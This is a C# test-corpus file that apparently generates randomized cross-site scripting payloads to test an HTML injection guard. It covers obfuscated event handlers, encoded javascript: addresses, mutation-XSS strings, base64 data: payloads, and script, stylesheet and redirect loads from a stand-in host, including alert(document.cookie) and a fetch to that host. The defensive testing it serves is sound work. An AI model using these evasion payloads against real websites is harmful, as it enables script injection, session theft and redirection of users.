using System.Text;

namespace Plimsoll.Guard.Tests.Injection.Corpus;

/// <summary>Markup that runs script or loads a stranger's, written as evasions do. The marker is a call of alert, confirm, prompt or print.</summary>
internal sealed class MarkupParts(Dice dice)
{
    private const string stranger = "//stranger.test";

    private static readonly string[] elements =
    [
        "a", "abbr", "acronym", "address", "article", "aside", "audio", "b", "bdi", "bdo", "big", "blockquote", "button", "canvas", "center", "cite", "code", "data", "datalist", "dd", "del",
        "details", "dfn", "dialog", "dir", "div", "dl", "dt", "em", "fieldset", "figcaption", "figure", "font", "footer", "form", "h1", "h6", "header", "hgroup", "hr", "i", "img", "input",
        "ins", "kbd", "label", "legend", "li", "main", "map", "mark", "marquee", "menu", "meter", "nav", "nobr", "object", "ol", "output", "p", "picture", "pre", "progress", "q", "rp", "rt",
        "ruby", "s", "samp", "search", "section", "select", "slot", "small", "span", "strike", "strong", "sub", "summary", "sup", "svg", "time", "tt", "u", "ul", "var", "video", "wbr",
        "x", "xss", "a-b", "custom-tag", "image", "listing", "plaintext", "keygen", "area", "embed", "math", "noindex", "template-x", "x:y", "b1",
    ];

    private static readonly string[] events =
    [
        "onclick", "ondblclick", "onmouseover", "onmouseenter", "onmouseleave", "onmousemove", "onmousedown", "onmouseup", "onmouseout", "onwheel", "onmousewheel", "onpointerover", "onpointerenter",
        "onpointerdown", "onpointerup", "onpointermove", "onpointerout", "onpointerleave", "onpointercancel", "onpointerrawupdate", "ongotpointercapture", "onlostpointercapture", "onkeydown",
        "onkeyup", "onkeypress", "onfocus", "onblur", "oncopy", "oncut", "onpaste", "onbeforecopy", "onbeforecut", "onbeforepaste", "ondrag", "ondragstart", "ondragend", "ondragenter",
        "ondragover", "ondragleave", "ondrop", "oninput", "onbeforeinput", "onchange", "oninvalid", "onselect", "onselectstart", "onselectionchange", "onreset", "onsubmit", "onsearch", "oncontextmenu",
        "onauxclick", "onscroll", "onscrollend", "ontransitionend", "ontransitionrun", "ontransitionstart", "ontransitioncancel", "onanimationstart", "onanimationend", "onanimationiteration",
        "onanimationcancel", "onwebkitanimationstart", "onwebkitanimationend", "onwebkittransitionend", "onfullscreenchange", "onfullscreenerror", "ontoggle", "onbeforetoggle", "oncancel", "onclose",
        "onload", "onerror", "onabort", "oncanplay", "ondurationchange", "onplay", "onplaying", "ontimeupdate", "onvolumechange", "onloadstart", "onloadeddata", "onprogress", "onsuspend", "onstalled",
        "onemptied", "onended", "onpause", "onratechange", "onseeked", "onseeking", "onwaiting", "onresize", "onsecuritypolicyviolation", "onslotchange", "onformdata", "oncuechange", "onbeforematch",
    ];

    public string Event() => Cased(dice.Of(events));

    /// <summary>One attribute that holds script.</summary>
    public string Attribute(string name)
    {
        var equals = dice.Of("=", "=", "=", " = ", "= ", "\t=\n", "\n=", "=\f");
        var script = Coded(Call());
        return dice.Below(3) switch
        {
            0 when !script.Contains('"', StringComparison.Ordinal) => $"{name}{equals}\"{script}\"",
            1 when !script.Contains('\'', StringComparison.Ordinal) => $"{name}{equals}'{script}'",
            _ => name + equals + string.Concat(script.Select(letter => letter switch { ' ' => "&#32;", '>' => "&gt;", '"' => "&quot;", '\'' => "&#39;", '\n' => "&#10;", _ => letter.ToString() })),
        };
    }

    /// <summary>What stands between a tag's name and its attributes.</summary>
    public string Blank() => dice.Of(" ", " ", " ", "\t", "\n", "\f", "\r\n", "/", "//", "/x/", " / ", " x=1 ", " x='>' ", " \"x\" ", "/\t/", " =a ", " x/");

    /// <summary>Any element with any handler.</summary>
    public string Handler()
    {
        var tag = Cased(dice.Of(elements));
        return $"<{tag}{Blank()}{Attribute(Event())}{dice.Of(">", ">", " >", " />", $">x</{tag}>", " x>", ">click here", " ")}";
    }

    /// <summary>Elements whose handler needs nobody to do anything.</summary>
    public string Firing()
    {
        var (tag, attributes, name) = dice.Of<(string, string, string)>(
            ("img", "src", "onerror"), ("img", "src=x", "onerror"), ("img", "src='x:x'", "onerror"), ("image", "src=x", "onerror"), ("input", "type=image src=x", "onerror"),
            ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("video><source", "", "onerror"), ("audio", "src", "onloadstart"), ("object", "data=x:x", "onerror"), ("embed", "src=/x", "onload"),
            ("iframe", "", "onload"), ("iframe", "src=about:blank", "onload"), ("body", "", "onload"), ("body", "", "onpageshow"), ("body", "", "onfocus"), ("style", "", "onload"), ("link", "rel=stylesheet href=x", "onerror"),
            ("svg", "", "onload"), ("details", "open", "ontoggle"), ("marquee", "", "onstart"), ("marquee", "loop=1 width=0", "onfinish"), ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"),
            ("textarea", "autofocus", "onfocus"), ("button", "autofocus", "onfocusin"), ("x", "tabindex=1 autofocus", "onfocus"), ("div", "contenteditable autofocus", "onfocus"), ("a", "href=x autofocus", "onfocus"),
            ("x", "style=animation:m onclick=x><style>@keyframes m{}</style><x style='animation-name:m;animation-duration:1s'", "onanimationstart"), ("picture><source srcset=x><img", "", "onerror"), ("script", "src=x:x", "onerror"),
            ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("svg><set", "attributeName=x dur=1s", "onbegin"), ("svg><image", "href=x:x", "onerror"), ("details", "open=x", "ontoggle"), ("frameset", "", "onload"), ("bgsound", "src=x", "onclick"));
        var attribute = Attribute(Cased(name));
        var all = attributes.Length == 0 ? attribute : attributes.EndsWith('\'') || attribute.EndsWith('"') || attribute.EndsWith('\'') || !dice.OneIn(2) ? $"{attributes}{dice.Of(" ", "\n", "\t")}{attribute}" : $"{attribute}{dice.Of(" ", "\n")}{attributes}";
        return $"<{Cased(tag)}{Blank()}{all}{dice.Of(">", ">", " >", "\n>", " />", ">x", " ")}";
    }

    public string Script() => dice.Below(7) switch
    {
        0 => $"<{Cased("script")}{dice.Of("", " ", "\n", "/", " x", "/x", "\t", " type=text/javascript", " type=module", " async", " defer", " language=javascript", " x='>'", " charset=utf-8")}>{Call()}{Closed()}",
        1 => $"<{Cased("script")}{Blank()}{Cased("src")}{dice.Of("=", " = ", "=\n")}{Quoted(dice.Of(stranger, "http:" + stranger, "https:" + stranger + "/x.js", "\\\\stranger.test", "/\\stranger.test/x", "data:text/javascript,alert(1)", "data:,alert(1)", "data:text/javascript;base64,YWxlcnQoMSk="))}>{Closed()}",
        2 => $"<{Cased("script")}><!--\n{Call()}\n-->{Closed()}",
        3 => $"<{Cased("script")}>/*x*/{Call()}//{Closed()}",
        4 => $"<scr\0ipt>{Call()}</script><{Cased("script")}>{Call()}{Closed()}",
        5 => $"<<{Cased("script")}>{Call()}//<{Closed()}",
        _ => $"<b>x</b>{dice.Of("", "\n", "<i>", "</p>", "<!---->")}<{Cased("script")}{dice.Of("", " ", "\n")}>{Call()};{Closed()}",
    };

    public string Link() => dice.Below(8) switch
    {
        0 or 1 => $"<{Cased("a")}{Blank()}{Cased("href")}{dice.Of("=", " = ", "=\t")}{Quoted(Address())}>{dice.Of("click", "<b>more</b>", "")}",
        2 => $"<{Cased("form")}{Blank()}action={Quoted(Address())}><input type=submit value=go>",
        3 => $"<form><{Cased("button")}{Blank()}{Cased("formaction")}={Quoted(Address())}>go</button>",
        4 => $"<form><input type={dice.Of("submit", "image")} formaction={Quoted(Address())} value=go>",
        5 => $"<map name=m><{Cased("area")}{Blank()}shape=rect coords=0,0,99,99 href={Quoted(Address())}></map><img usemap=#m src=x>",
        6 => $"<form id=f></form><button form=f formaction={Quoted(Address())}>go",
        _ => $"<{dice.Of("b", "i", "div")}><A{Blank()}HREF={Quoted(Address())} target=_self>x</A>",
    };

    public string Frame() => dice.Below(8) switch
    {
        0 or 1 => $"<{Cased("iframe")}{Blank()}{Cased("src")}={Quoted(Address())}>",
        2 => $"<{Cased("iframe")}{Blank()}{Cased("srcdoc")}={Quoted(dice.Of("&lt;script>alert(1)&lt;/script>", "<img src=x onerror=alert(1)>", "&#60;svg onload=alert(1)&#62;", "&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;", "<body onload=prompt(1)>"))}>",
        3 => $"<{Cased("iframe")}{Blank()}src={Quoted(dice.Of(stranger, "http:" + stranger + "/login", "https:" + stranger))}>",
        4 => $"<{Cased("object")}{Blank()}data={Quoted(dice.Of(stranger, "http:" + stranger, "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="))}{dice.Of("", " type=text/html")}>",
        5 => $"<{Cased("embed")}{Blank()}src={Quoted(dice.Of(stranger, "http:" + stranger, "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="))}>",
        6 => $"<{Cased("iframe")}{Blank()}src={Quoted(dice.Of("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html;charset=utf-8,%3Csvg%20onload%3Dalert(1)%3E", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))}></iframe>",
        _ => $"<{Cased("frameset")}><{Cased("frame")}{Blank()}src={Quoted(Address())}>",
    };

    public string Svg() => dice.Below(9) switch
    {
        0 => $"<{Cased("svg")}{Blank()}{Attribute(Cased("onload"))}{dice.Of(">", " />", " ")}",
        1 => $"<svg><{Cased("script")}{dice.Of("", " ", "/")}>{dice.Of("alert&#40;1)", "alert&lpar;1&rpar;", "&#97;lert(1)", "alert(1)", "<![CDATA[alert(1)]]>", "al<!-- -->ert(1)")}</script>",
        2 => $"<svg><script{Blank()}{dice.Of("href", "xlink:href")}={Quoted(dice.Of(stranger, "data:,alert(1)", "https:" + stranger))}{dice.Of("></script>", "/>")}",
        3 => $"<svg><{Cased("a")}{Blank()}{dice.Of("xlink:href", "href", "XLINK:HREF")}={Quoted(Address())}><text x=20 y=20>go</text></a>",
        4 => $"<svg><a><{Cased("animate")}{Blank()}attributeName={dice.Of("href", "'href'", "xlink:href")} {dice.Of("values", "to", "from")}={Quoted(Address())} {dice.Of("", "fill=freeze dur=1s")} /><text y=20>go</text></a>",
        5 => $"<svg><{Cased("animate")}{Blank()}{Attribute("onbegin")} attributeName=x dur={dice.Of("1s", "9", "2s")}>",
        6 => $"<svg><foreignObject><{dice.Of("iframe", "img src=x", "body")} {dice.Of("onload", "onerror", "onclick")}={Quoted(Call())}></foreignObject>",
        7 => $"<math><{dice.Of("mtext", "mi", "annotation-xml encoding=text/html")}><{dice.Of("img src=x", "svg", "a")} {Attribute(dice.Of("onerror", "onclick", "onload"))}>",
        _ => $"<math {Attribute(dice.Of("onclick", "onmouseover", "onfocus"))}><mi>x</mi>",
    };

    public string Sheet() => dice.Below(3) switch
    {
        0 => $"<{Cased("link")}{Blank()}rel={dice.Of("stylesheet", "'stylesheet'", "STYLESHEET")} href={Quoted(stranger + "/x.css")}>",
        1 => $"<{Cased("style")}{dice.Of("", " ", "/x", " type=text/css")}>@import {dice.Of("'" + stranger + "/x.css'", "url(" + stranger + "/x.css)", "url('http:" + stranger + "')", "\\75rl(" + stranger + ")")};</style>",
        _ => $"<style>{dice.Of("@\\69mport", "@IMPORT", "@import/**/")} '{stranger}';</style>",
    };

    public string Head() => dice.Below(3) switch
    {
        0 => $"<{Cased("base")}{Blank()}{Cased("href")}={Quoted(dice.Of(stranger + "/", "http:" + stranger, "https:" + stranger + "/x/", "\\\\stranger.test"))}>",
        1 => $"<{Cased("meta")}{Blank()}http-equiv={dice.Of("refresh", "'refresh'", "REFRESH", "\"refresh\"", "&#114;efresh")} content={Quoted(dice.Of("0;url=", "0; url=", "0 URL=", "0,url='", ".1;url=", "0;") + "http:" + stranger)}>",
        _ => $"</title><{Cased("script")}>{Call()}{Closed()}",
    };

    /// <summary>Harmless when parsed once, as a filter does, and script when what that gives is parsed again.</summary>
    public string Mutation()
    {
        var image = $"<img src=x {Attribute("onerror")}>";
        var raw = dice.Of("xmp", "noembed", "noframes", "noscript");
        return dice.Below(5) switch
        {
            0 => $"<form><math><mtext></form><form><mglyph><style></math>{image}",
            1 => $"<svg></p><style><a id=\"</style>{image}\">",
            2 => $"<{raw}><p title=\"</{raw}>{image}\">",
            3 => $"<math></p><{dice.Of("textarea", "title")}><mi id=\"</textarea></title>{image}\">",
            _ => $"<svg></br><{dice.Of("title", "noframes")}><a id=\"</title></noframes>{image}\">",
        };
    }

    /// <summary>An address that is script.</summary>
    public string Address()
    {
        var scheme = dice.Below(8) switch
        {
            0 => "JavaScript:",
            1 => "java\tscript:",
            2 => "java\nscript:",
            3 => "java&#9;script&colon;",
            4 => "&#106;avascript&#58;",
            5 => dice.Of("\u0001javascript:", "  javascript:", "\njavascript:", "&#x20;javascript:", "&Tab;javascript:", "&NewLine;java&NewLine;script:"),
            6 => string.Concat("javascript".Select(letter => dice.OneIn(3) ? $"&#x{(dice.OneIn(2) ? "000" : "")}{(int)letter:x}{dice.Of(";", ";", ";")}" : dice.OneIn(2) ? char.ToUpperInvariant(letter).ToString() : letter.ToString())) + ":",
            _ => "javascript:",
        };
        var call = Call();
        if (call.Contains('"', StringComparison.Ordinal) || call.Contains('\n', StringComparison.Ordinal)) call = "alert(1)";
        return scheme + dice.Of("", "", "", "//x%0a", "/**/", "void ", "x='", "1;") switch { "x='" => "'x';", var start => start } + call;
    }

    private string Quoted(string value)
    {
        if (!value.Contains('"', StringComparison.Ordinal) && dice.OneIn(2) || value.Contains('\'', StringComparison.Ordinal)) return $"\"{value.Replace("\"", "&quot;", StringComparison.Ordinal)}\"";
        if (value.Any(letter => letter is <= ' ' or '>' or '"' or '\'') || dice.OneIn(2)) return $"'{value}'";
        return value;
    }

    private string Closed() => dice.Of("</script>", "</script>", "</SCRIPT>", "</script >", "</script\n>", "</script x>", "</ScRiPt/>");

    private string Call() => dice.Below(24) switch
    {
        0 => "confirm(1)",
        1 => "prompt(1)",
        2 => "alert`1`",
        3 => "self['al'+'ert'](1)",
        4 => "window[\"alert\"](1)",
        5 => "(alert)(1)",
        6 => "[1].find(alert)",
        7 => "eval('ale'+'rt(1)')",
        8 => "setTimeout('alert(1)')",
        9 => "self[/al/.source+/ert/.source](1)",
        10 => "\\u0061lert(1)",
        11 => "this.alert?.(document.domain)",
        12 => "Function('alert(1)')()",
        13 => "[].constructor.constructor('alert(1)')()",
        14 => "eval(atob('YWxlcnQoMSk='))",
        15 => "a=alert,a(1)",
        16 => "Function`alert\\x281\\x29```",
        17 => "Reflect.apply(alert,null,[1])",
        18 => "print()",
        19 => "location='javascript:alert(1)'",
        20 => "alert(document.cookie)",
        21 => "fetch('//stranger.test/'+alert(1))",
        _ => "alert(1)",
    };

    /// <summary>Character references are read in attributes.</summary>
    private string Coded(string script) => dice.Below(6) switch
    {
        0 => new StringBuilder(script).Replace("a", dice.Of("&#97;", "&#x61;", "&#0000097;", "&#X61;")).ToString(),
        1 => new StringBuilder(script).Replace("(", "&lpar;").Replace(")", "&rpar;").ToString(),
        2 => string.Concat(script.Select(letter => $"&#{(int)letter};")),
        _ => script,
    };

    private string Cased(string name) => dice.Below(4) switch
    {
        0 => name.ToUpperInvariant(),
        1 => string.Concat(name.Select(letter => dice.OneIn(2) ? char.ToUpperInvariant(letter) : letter)),
        _ => name,
    };
}
